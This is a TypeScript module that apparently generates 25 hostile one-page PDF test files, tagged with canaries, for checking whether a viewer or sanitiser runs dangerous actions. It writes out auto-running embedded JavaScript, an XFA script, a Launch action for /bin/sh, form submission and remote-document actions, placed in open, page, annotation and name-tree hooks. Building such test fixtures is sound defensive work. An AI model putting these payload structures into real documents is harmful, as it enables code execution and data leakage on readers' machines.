import { mark } from './hostile-file.ts'
import type { Draw, HostileFile } from './hostile-file.ts'
import { SCRIPT, canary } from './script.ts'

const js = `(${SCRIPT.replaceAll(/[()\\]/gu, '\\$&')})`

const RUN = `<< /S /JavaScript /JS ${js} >>`
const URI = `<< /S /URI /URI (${canary('uri')}) >>`
const LAUNCH = '<< /S /Launch /F (/bin/sh) >>'
const SUBMIT = `<< /S /SubmitForm /F (${canary('form')}) >>`
const REMOTE = `<< /S /GoToR /F << /FS /URL /F (${canary('remote.pdf')}) >> /D [0 /Fit] >>`
const ACTIONS = [RUN, URI, LAUNCH, SUBMIT, REMOTE]

/** Where an action hangs: in the catalogue, the page, or what lies on it. */
const PLACES: ((action: string) => { catalogue?: string; page?: string })[] = [
  (action) => ({ catalogue: `/OpenAction ${action}` }),
  (action) => ({ page: `/AA << /O ${action} /C ${action} >>` }),
  (action) => ({
    page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A ${action} >>]`,
  }),
  (action) => ({
    page: `/Annots [<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /Rect [0 0 90 90] /AA << /F ${action} /K ${action} >> >>]`,
    catalogue: `/AcroForm << /Fields [] /XFA (<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>${SCRIPT.replaceAll(/[()\\]/gu, '\\$&')}</script></xdp:xdp>) >>`,
  }),
  (action) => ({
    catalogue: `/Names << /JavaScript << /Names [(x) ${action}] >> >>`,
  }),
]

/** Each action in each place: 25 papers of one page. */
export function pdfFiles(draw: Draw): HostileFile[] {
  return PLACES.flatMap((place, at) =>
    ACTIONS.map((action, which) => ({
      name: `pdf-${at + 1}-${which + 1}.pdf`,
      bytes: paper({ ...place(action), comment: mark(draw) }),
    })),
  )
}

function paper(parts: {
  catalogue?: string | undefined
  page?: string | undefined
  comment: string
}): Uint8Array {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${parts.catalogue ?? ''} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] ${parts.page ?? ''} >>`,
  ]
  let text = `%PDF-1.7\n% ${parts.comment}\n`
  const offsets = objects.map((object, index) => {
    const at = text.length
    text += `${index + 1} 0 obj\n${object}\nendobj\n`
    return `${String(at).padStart(10, '0')} 00000 n \n`
  })
  const size = objects.length + 1
  const start = text.length
  text += `xref\n0 ${size}\n0000000000 65535 f \n${offsets.join('')}`
  text += `trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`
  return Buffer.from(text, 'latin1')
}
